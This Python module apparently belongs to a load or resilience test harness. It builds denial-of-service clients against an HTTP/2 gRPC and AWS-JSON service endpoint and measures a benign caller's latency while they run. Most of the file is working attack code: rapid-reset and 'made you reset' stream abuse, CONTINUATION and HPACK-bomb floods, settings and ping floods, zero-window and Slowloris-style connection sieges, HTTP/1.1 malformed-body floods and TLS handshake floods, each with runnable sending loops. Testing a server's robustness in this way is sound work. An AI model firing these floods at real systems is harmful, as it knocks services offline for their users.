"""Clients that mean harm, as lean as can be: their bytes are made before they begin, and sending them is all they do.

Run as a program, it makes one attack for some seconds and prints what that took: `attackers.py FRONT NAME HOST PORT SECONDS`.
`caller` is the client whose calls are to be answered meanwhile.
"""

import contextlib
import json
import select
import socket
import ssl
import sys
import time
from collections.abc import Callable, Iterable, Iterator
from dataclasses import dataclass

from frames import (
    ACK,
    CONTENT_LENGTH,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADER_TABLE_SIZE,
    INITIAL_WINDOW_SIZE,
    NEWEST,
    PADDED,
    PING,
    PREFACE,
    PRIORITY,
    PUSH_PROMISE,
    SETTINGS,
    WITH_PRIORITY,
    again,
    frame,
    headers,
    indexed,
    literal,
    message,
    request,
    reset,
    settings,
    window_update,
)

MIB = 1 << 20
# What fits a connection: enough that no attacker comes to the end of it before the server has had enough.
STREAMS = 20_000
GRPC_FIELDS, JSON_FIELDS = 4, 5
UNARY = b"/proton.v1.ProtonService/GetAccountSettings"


@dataclass(frozen=True)
class Flood:
    """Says something once on each connection, then the same over and over, and comes again when it is thrown out."""

    once: bytes
    often: bytes
    # Whether what the server says is read.
    reads: bool = True
    # Streams cannot be opened twice: then what is said is said once on each connection.
    repeats: bool = True


@dataclass(frozen=True)
class Siege:
    """Holds many connections and sends on each a little now and then."""

    connections: int
    once: bytes
    now_and_then: bytes = b""


class Handshakes:
    """Begins to shake hands, and leaves when the server has done its part."""


Attack = Flood | Siege | Handshakes


def call(kept: bool, more: Iterable[tuple[bytes | int, bytes]] = (), json: bool = False) -> bytes:
    target = [(b"x-amz-target", b"AwsProton20200720.GetAccountSettings")] if json else []
    path, kind = (b"/", b"application/x-amz-json-1.0") if json else (UNARY, b"application/grpc")
    return request(path, kind, [*target, *more], kept)


def streams(each: Callable[[int], bytes], first: int = 3, count: int = STREAMS) -> bytes:
    return b"".join(each(stream) for stream in range(first, first + 2 * count, 2))


def opened(json: bool = False) -> bytes:
    """A connection with a first call, whose headers are kept."""
    payload = b"{}" if json else message()
    return PREFACE + settings() + headers(1, call(True, json=json)) + frame(DATA, END_STREAM, 1, payload)


def per_stream(then: Callable[[int], bytes], flags: int = END_HEADERS, json: bool = False, reads: bool = True) -> Flood:
    """A call, and what spoils it, on one stream after the other."""
    block = again(JSON_FIELDS if json else GRPC_FIELDS)
    return Flood(opened(json), streams(lambda stream: headers(stream, block, flags) + then(stream)), reads, repeats=False)


def whole(payload: bytes, more: Callable[[int], bytes] = lambda _: b"") -> Callable[[int], bytes]:
    return lambda stream: frame(DATA, END_STREAM, stream, payload) + more(stream)


def often(frames: bytes, reads: bool = True, once: bytes = b"") -> Flood:
    return Flood(opened() + once, frames * (MIB // len(frames)), reads)


def in_batches(size: int) -> bytes:
    """Whole calls, as many as may be open at a time, and then all of them taken back."""
    block = again(GRPC_FIELDS)

    def batch(first: int) -> bytes:
        numbers = range(first, first + 2 * size, 2)
        calls = (headers(stream, block) + frame(DATA, END_STREAM, stream, message()) for stream in numbers)
        return b"".join(calls) + b"".join(map(reset, numbers))

    return b"".join(batch(first) for first in range(3, 2 * STREAMS, 2 * size))


def self_dependent(stream: int) -> bytes:
    return headers(stream, stream.to_bytes(4) + b"\0" + again(GRPC_FIELDS), END_HEADERS | WITH_PRIORITY)


def bomb(stream: int, block: bytes) -> bytes:
    """A large header, as often as fits a frame that names it."""
    return headers(stream, block + indexed(NEWEST) * (16_384 - len(block)), END_HEADERS | END_STREAM)


def continued(payload: bytes) -> bytes:
    return frame(CONTINUATION, 0, 3, payload)


def no_window(json: bool = False) -> bytes:
    """Calls whose answers may not be sent."""
    first = opened(json).replace(settings(), settings((INITIAL_WINDOW_SIZE, 0)), 1)
    block, payload = again(JSON_FIELDS if json else GRPC_FIELDS), b"{}" if json else message()
    return first + streams(lambda stream: headers(stream, block) + frame(DATA, END_STREAM, stream, payload), count=99)


def http1(*lines: bytes) -> bytes:
    return b"\r\n".join((b"POST / HTTP/1.1", b"host: localhost", *lines)) + b"\r\n"


# A first flight that any client may send, without an end to it.
CLIENT_HELLO_BEGINS = b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc\x03\x03"
OPEN_STREAMS = streams(lambda stream: headers(stream, again(GRPC_FIELDS)), count=98)
LONG = b"x" * 4000
MANY = literal(b"a", b"") * 4000

GRPC: dict[str, Callable[[], Attack]] = {
    "rapid reset": lambda: per_stream(reset),
    "rapid reset of whole calls": lambda: per_stream(whole(message(), reset)),
    "rapid reset in batches": lambda: Flood(opened(), in_batches(99), repeats=False),
    "made you reset: window of 0": lambda: per_stream(lambda stream: window_update(stream, 0)),
    "made you reset: window too large": lambda: per_stream(lambda stream: window_update(stream, (1 << 31) - 1)),
    "made you reset: data after the end": lambda: per_stream(whole(message(), lambda stream: frame(DATA, 0, stream, b"x"))),
    "made you reset: depends on itself": lambda: Flood(opened(), streams(self_dependent), repeats=False),
    "made you reset: priority on itself": lambda: per_stream(
        lambda stream: frame(PRIORITY, 0, stream, stream.to_bytes(4) + b"\0")
    ),
    "too many streams": lambda: per_stream(lambda _: b""),
    "continuation, empty": lambda: Flood(opened() + headers(3, b"", 0), continued(b"") * (MIB // 9)),
    "continuation, full": lambda: Flood(opened() + headers(3, b"", 0), continued(MANY) * 64),
    "continuation, one long header": lambda: Flood(
        opened() + headers(3, b"\0\x7f\xff\xff\xff\x07", 0), continued(b"x" * 16_384) * 64
    ),
    "settings": lambda: often(settings()),
    "settings, never read": lambda: often(settings(), reads=False),
    "settings that move all windows": lambda: often(
        settings(*[(INITIAL_WINDOW_SIZE, 65_535 - nth % 2) for nth in range(50)]), once=OPEN_STREAMS
    ),
    "settings that resize the table": lambda: often(settings(*[(HEADER_TABLE_SIZE, 4096 * (nth % 2)) for nth in range(50)])),
    "settings acknowledged": lambda: often(frame(SETTINGS, ACK)),
    "ping": lambda: often(frame(PING, payload=bytes(8))),
    "ping, never read": lambda: often(frame(PING, payload=bytes(8)), reads=False),
    "pong": lambda: often(frame(PING, ACK, payload=bytes(8))),
    "window by one": lambda: often(window_update(0, 1)),
    "window of a closed stream": lambda: often(window_update(1, 1)),
    "priority": lambda: often(frame(PRIORITY, 0, 5, bytes(5))),
    "reset of a closed stream": lambda: often(reset(1)),
    "unknown frames": lambda: often(frame(0xEE)),
    "goaway": lambda: often(frame(GOAWAY, payload=bytes(8))),
    "push promise": lambda: often(frame(PUSH_PROMISE, END_HEADERS, 1, (2).to_bytes(4))),
    "empty data": lambda: often(frame(DATA, 0, 3), once=OPEN_STREAMS),
    "padding only": lambda: often(frame(DATA, PADDED, 3, b"\0"), once=OPEN_STREAMS),
    "data by the byte": lambda: often(frame(DATA, 0, 3, b"\0"), once=OPEN_STREAMS),
    "HPACK bomb": lambda: Flood(
        opened() + headers(3, call(False) + literal(b"x", LONG, kept=True), END_HEADERS | END_STREAM),
        streams(lambda stream: bomb(stream, call(False)), first=5, count=200),
        repeats=False,
    ),
    "many headers": lambda: Flood(
        opened(),
        streams(lambda stream: headers(stream, call(False) + MANY, END_HEADERS | END_STREAM), count=200),
        repeats=False,
    ),
    "content-length lies": lambda: Flood(
        opened(),
        streams(lambda stream: headers(stream, call(False, [(CONTENT_LENGTH, b"1")])) + whole(message())(stream)),
        repeats=False,
    ),
    "message of 4 GiB": lambda: per_stream(whole(b"\0\xff\xff\xff\xff" + b"x" * 10)),
    "no window": lambda: Flood(no_window(), b"", repeats=False),
    "no window, many hold on": lambda: Siege(50, no_window()),
    "silence": lambda: Siege(200, b""),
    "half a preface": lambda: Siege(200, PREFACE[:10]),
    "headers without an end": lambda: Siege(200, opened() + headers(3, b"", 0), continued(b"")),
    "bodies without an end": lambda: Siege(50, opened() + OPEN_STREAMS, frame(DATA, 0, 3, b"\0")),
}
AWS_JSON: dict[str, Callable[[], Attack]] = {
    "rapid reset": lambda: per_stream(reset, json=True),
    "rapid reset of whole calls": lambda: per_stream(whole(b"{}", reset), json=True),
    "made you reset: window of 0": lambda: per_stream(lambda stream: window_update(stream, 0), json=True),
    "data by the byte": lambda: Flood(
        opened(json=True) + headers(3, again(JSON_FIELDS)), frame(DATA, 0, 3, b" ") * (MIB // 10)
    ),
    "no window, many hold on": lambda: Siege(50, no_window(json=True)),
    "HTTP/1.1 head without an end": lambda: Siege(200, http1(), b"x: y\r\n"),
    "HTTP/1.1 head too large": lambda: Flood(http1(), b"x: y\r\n" * (MIB // 6)),
    "HTTP/1.1 chunks of one byte": lambda: Flood(http1(b"transfer-encoding: chunked", b""), b"1\r\n \r\n" * (MIB // 6)),
    "HTTP/1.1 chunk extensions": lambda: Flood(http1(b"transfer-encoding: chunked", b""), b"1;" + b"x" * MIB),
    "HTTP/1.1 body of 4 GiB": lambda: Flood(http1(b"content-length: 4294967296", b""), b" " * MIB),
    "HTTP/1.1 body without an end": lambda: Siege(200, http1(b"content-length: 1000", b""), b" "),
}
TLS: dict[str, Callable[[], Attack]] = {
    "half a handshake": lambda: Siege(200, CLIENT_HELLO_BEGINS),
    "handshakes": lambda: Handshakes(),
    "rapid reset": GRPC["rapid reset"],
    "ping": GRPC["ping"],
}
ATTACKS = {"gRPC": GRPC, "AWS-JSON": AWS_JSON, "TLS": TLS}

Address = tuple[str, int]


@contextlib.contextmanager
def connected(address: Address, secure: bool) -> Iterator[socket.socket]:
    with socket.create_connection(address, timeout=5) as plain:
        plain.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, True)
        if not secure:
            yield plain
            return
        context = ssl.create_default_context()
        context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        with context.wrap_socket(plain) as wrapped:
            yield wrapped


def flood(attack: Flood, address: Address, secure: bool, until: float) -> int:
    connections = 0
    while time.monotonic() < until:
        # Whoever is thrown out comes again.
        with contextlib.suppress(OSError), connected(address, secure) as connection:
            connections += 1
            connection.sendall(attack.once)
            connection.setblocking(False)
            pour(attack, connection, until)
    return connections


def pour(attack: Flood, connection: socket.socket, until: float) -> None:
    rest, sink = memoryview(attack.often), bytearray(1 << 18)
    while time.monotonic() < until:
        reading = [connection] if attack.reads else []
        readable, writable, _ = select.select(reading, [connection] if rest else [], [], 0.1)
        with contextlib.suppress(BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            if readable and not connection.recv_into(sink):
                return
        with contextlib.suppress(BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
            if writable:
                rest = rest[connection.send(rest) :]
        if not rest and attack.repeats:
            rest = memoryview(attack.often)
        elif not rest and attack.often and not readable:
            return


def siege(attack: Siege, address: Address, until: float) -> int:
    """As many connections as there are to be, all the time."""
    held: list[socket.socket] = []
    connections = 0
    while time.monotonic() < until:
        while len(held) < attack.connections:
            held.append(socket.create_connection(address, timeout=5))
            held[-1].sendall(attack.once)
            held[-1].setblocking(False)
            connections += 1
        time.sleep(0.1)
        for connection in held[:]:
            try:
                if attack.now_and_then:
                    connection.send(attack.now_and_then)
            except BlockingIOError:
                pass
            except OSError:
                connection.close()
                held.remove(connection)
    for connection in held:
        connection.close()
    return connections


def handshakes(address: Address, until: float) -> int:
    context = ssl.create_default_context()
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    outgoing = ssl.MemoryBIO()
    with contextlib.suppress(ssl.SSLWantReadError):
        context.wrap_bio(ssl.MemoryBIO(), outgoing).do_handshake()
    hello, connections = outgoing.read(), 0
    while time.monotonic() < until:
        with contextlib.suppress(OSError), socket.create_connection(address, timeout=5) as connection:
            connections += 1
            connection.sendall(hello)
            connection.recv(1 << 16)
    return connections


def attack(front: str, name: str, address: Address, seconds: float) -> dict[str, float]:
    what = ATTACKS[front][name]()
    until = time.monotonic() + seconds
    before = time.process_time()
    match what:
        case Flood():
            connections = flood(what, address, front == "TLS", until)
        case Handshakes():
            connections = handshakes(address, until)
        case Siege():
            connections = siege(what, address, until)
    return {"cpu": time.process_time() - before, "connections": connections}


class Caller:
    """A client that means no harm, on a connection of its own: one call after the other, with a pause."""

    def __init__(self, address: Address, secure: bool):
        self.connection = contextlib.ExitStack()
        self.socket = self.connection.enter_context(connected(address, secure))
        self.socket.sendall(PREFACE + settings())
        self.block, self.stream, self.received = call(False), 1, b""

    def call(self) -> None:
        self.socket.sendall(headers(self.stream, self.block) + frame(DATA, END_STREAM, self.stream, message()))
        while True:
            kind, flags, stream = self.next()
            if kind == SETTINGS and not flags & ACK:
                self.socket.sendall(frame(SETTINGS, ACK))
            if stream == self.stream and flags & END_STREAM:
                break
        self.stream += 2

    def next(self) -> tuple[int, int, int]:
        head = self.take(9)
        self.take(int.from_bytes(head[:3]))
        return head[3], head[4], int.from_bytes(head[5:])

    def take(self, count: int) -> bytes:
        while len(self.received) < count:
            received = self.socket.recv(1 << 16)
            if not received:
                raise ConnectionError("the server has closed the connection")
            self.received += received
        taken, self.received = self.received[:count], self.received[count:]
        return taken


def caller(address: Address, secure: bool, seconds: float) -> dict[str, float | list[float]]:
    """How long calls took, and how many found no answer."""
    took: list[float] = []
    failed, until, client = 0, time.monotonic() + seconds, None
    while time.monotonic() < until:
        began = time.monotonic()
        try:
            client = client or Caller(address, secure)
            client.call()
        except OSError:
            failed, client = failed + 1, None
        took.append(time.monotonic() - began)
        time.sleep(0.004)
    return {"took": took, "failed": failed}


def main() -> None:
    front, name, host, port, seconds = sys.argv[1:]
    address = host, int(port)
    if name == "caller":
        result = caller(address, front == "TLS", float(seconds))
    else:
        result = attack(front, name, address, float(seconds))
    print(json.dumps(result))


if __name__ == "__main__":
    main()
